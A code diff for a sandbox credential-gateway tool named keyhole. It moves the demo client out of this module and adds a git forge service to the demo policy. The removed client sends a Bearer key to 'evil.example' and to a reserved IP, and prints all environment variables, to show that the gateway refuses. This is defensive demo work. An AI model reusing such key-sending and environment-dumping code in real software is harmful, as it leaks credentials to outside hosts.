@@ -1,4 +1,4 @@
-"""The demo's real part: a service that wants a key, and a client in a sandbox that never has it.
+"""The demo's real part: a service that wants a key, and clients in a sandbox that never have it.
 
 Called by `cli/demo.py`. The sandbox, its door and the gateway are those of `keyhole run`; only the
 person's consent is left out, since the policy is the demo's own. No internet, no file outside a
@@ -11,8 +11,11 @@ import os
 import secrets
 from typing import TYPE_CHECKING
 
+from keyhole.app import demorepository
 from keyhole.app.catalogue import FileCatalogue
-from keyhole.app.demoservice import ASK, ECHO, NAME, Received, serve
+from keyhole.app.democlient import CLIENT, GIT_CLIENT, VARIABLE
+from keyhole.app.demorepository import make_repository
+from keyhole.app.demoservice import NAME, Received, serve
 from keyhole.app.interception import prepare_with_services
 from keyhole.app.places import POLICY_NAME, Places
 from keyhole.app.policyfile import Joined, open_policy
@@ -31,16 +34,10 @@ from keyhole.sandbox.terminal import Terminal
 if TYPE_CHECKING:
     from pathlib import Path
 
+    from keyhole.app.demorepository import Repository, State
     from keyhole.app.demoservice import Service
 
 SERVICE = "hello"
-VARIABLE = "HELLO_API_KEY"
-DENIED_PATH = "/admin/keys"
-DENIED_HOST = "evil.example"
-DENIED_ADDRESS = "192.0.2.1"
-"""One of those that documents use (RFC 5737): nobody has it."""
-DECODED = "    the same, read from base64"
-"""The client's word for the echo's second field."""
 
 POLICY = """\
 version = 1
@@ -53,50 +50,26 @@ env         = ["{variable}"]
 placeholder = "{service}-{{alnum:32}}"
 allow       = ["GET /v1/**"]
 
-[upstream]
+{forge}[upstream]
 ca_file = "~/service-ca.pem"
 
 [upstream.connect]
 "{name}:443" = "127.0.0.1:{port}"
 """
 
-CLIENT = f"""
-import base64, json, os, socket, urllib.error, urllib.request
+FORGE = f"""\
+[services.forge]
+hosts  = ["{demorepository.HOST}"]
+forge  = "generic"
+secret = "file:~/.secrets/{SERVICE}"
+repos  = ["{demorepository.NAME}"]
+push   = ["agent/*"]
 
-def show(what, said):
-    print(what, said, sep="\\t", flush=True)
+[sandbox]
+git_user = "Agent <agent@keyhole.example>"
 
-def get(url):
-    key = os.environ["{VARIABLE}"]
-    request = urllib.request.Request(url, headers={{"Authorization": f"Bearer {{key}}"}})
-    try:
-        with urllib.request.urlopen(request, timeout=10) as answer:
-            return answer.status, json.load(answer)
-    except urllib.error.HTTPError as error:
-        return error.code, json.load(error)
-
-def attempt(url, *fields):
-    try:
-        status, answer = get(url)
-        show(f"GET {{url}}", " ".join([str(status), *(str(answer[name]) for name in fields)]))
-        return answer
-    except OSError as error:
-        show(f"GET {{url}}", f"refused: {{getattr(error, 'reason', error)}}")
-
-show("network interfaces", " ".join(name for _, name in socket.if_nameindex()))
-environment = {{}}
-for name, value in os.environ.items():
-    environment.setdefault(value, []).append(name)
-for value, names in environment.items():
-    show(f"env {{names[0]}}" + (f" and {{len(names) - 1}} more" if names[1:] else ""), value)
-attempt("https://{NAME}{ASK}", "said")
-echoed = attempt("https://{NAME}{ECHO}", "authorization")
-show("{DECODED}", base64.b64decode(echoed["base64"]).decode("latin-1"))
-attempt("https://{NAME}{DENIED_PATH}", "why")
-attempt("https://{DENIED_HOST}/")
-attempt("https://{DENIED_ADDRESS}/")
 """
-"""An ordinary client: it takes the key from its environment and sends it wherever it asks."""
+"""The same key opens the service's repository."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -116,6 +89,9 @@ class Shown:
     entries: tuple[Entry, ...]
     log_whole: bool
     """Whether the audit log is whole up to the digest that the run ended with."""
+    before: State | None = None
+    """What the service's repository had; None where this host has no git that serves one."""
+    after: State | None = None
 
 
 def new_key() -> str:
@@ -128,20 +104,22 @@ def run_client(directory: Path, key: str) -> Shown:
 
     Raises Missing, Refused, Unavailable, SetupFailed or AuditUnusable.
     """
-    with serve(key) as service:
-        return _run(directory, key, service)
+    repository = make_repository(programs.find().git, directory / "repositories")
+    with serve(key, repository) as service:
+        return _run(directory, key, service, repository)
 
 
-def _run(directory: Path, key: str, service: Service) -> Shown:
+def _run(directory: Path, key: str, service: Service, repository: Repository | None) -> Shown:
+    before = repository.state() if repository else None
     project = directory / "project"
     project.mkdir()
     places = Places(directory / "home", directory / "config", directory / "state")
     _furnish(places.home, key, service.ca_pem)
-    text = POLICY.format(service=SERVICE, name=NAME, variable=VARIABLE, port=service.port)
+    text = _policy(service.port, forge=repository is not None)
     (project / POLICY_NAME).write_text(text, "utf-8")
     file = open_policy(project / POLICY_NAME, places, FileCatalogue())
     policy = file.loaded.policy
-    command = (programs.find().python, "-I", "-c", CLIENT)
+    command = (programs.find().python, "-I", "-c", CLIENT + (GIT_CLIENT if repository else ""))
     dossier, joined = examine(file, places.home, ""), Joined(policy, (), ())
     session = new_session()
     services = prepare_with_services(
@@ -174,7 +152,16 @@ def _run(directory: Path, key: str, service: Service) -> Shown:
         reported=tuple(reported),
         entries=tuple(entry for entry in Story(log).read() if wanted.takes(entry)),
         log_whole=verify(log, outcome.head).whole,
+        before=before,
+        after=repository.state() if repository else None,
     )
+
+
+def _policy(port: int, *, forge: bool) -> str:
+    text = POLICY.format(
+        service=SERVICE, name=NAME, variable=VARIABLE, port=port, forge=FORGE if forge else ""
+    )
+    return text + f'"{demorepository.HOST}:443" = "127.0.0.1:{port}"\n' if forge else text
 
 
 def _furnish(home: Path, key: str, ca_pem: bytes) -> None:
